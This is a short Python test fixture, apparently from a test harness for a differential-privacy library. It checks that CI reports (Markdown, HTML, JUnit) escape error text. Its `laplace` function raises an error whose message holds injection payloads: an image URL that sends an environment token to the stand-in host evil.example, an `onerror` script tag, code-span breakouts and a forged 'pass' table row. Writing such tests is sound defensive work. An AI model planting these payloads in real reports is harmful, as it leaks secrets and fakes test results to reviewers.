"""Attack: make the reports' text live. The implementation raises an exception whose message is
Markdown and HTML that a CI system renders: an image whose URL carries a token from the environment
(an exfiltration when the report is viewed), a link, a bare URL (an autolink on GitHub), raw HTML,
backticks that close a code span, and a table row that says pass. Expected: an implementation error
whose text is inert in report.md (one table row per item, no image, link or HTML), index.html,
junit.xml and on the console."""

import os

TOKEN = os.environ.get("HOSTILE_TOKEN", "no-token")
EVIL = (f"![logo](https://evil.example/collect?t={TOKEN}) [details](https://evil.example/x) "
        f"see https://evil.example/{TOKEN} or www.evil.example <img src=x onerror=alert(1)> <b>bold</b> "
        "`` ` ``</td><td>pass `x` ``\n| privacy | all | pass | pass | as expected |\n<!-- hidden -->")


def laplace(data, *, rng, epsilon, gamma):
    raise ValueError(EVIL)
